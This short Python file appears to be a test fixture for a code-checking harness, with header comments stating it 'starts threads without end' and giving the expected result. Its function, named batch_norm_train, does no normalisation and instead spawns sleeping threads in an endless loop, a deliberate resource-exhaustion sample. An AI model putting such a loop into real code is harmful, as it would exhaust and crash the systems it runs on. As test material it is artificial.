# Starts threads without end.
# expect: 17 test_train=0
# rest: right

# %% train
import threading
import time


def batch_norm_train(x, gamma, beta, eps=1e-5):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
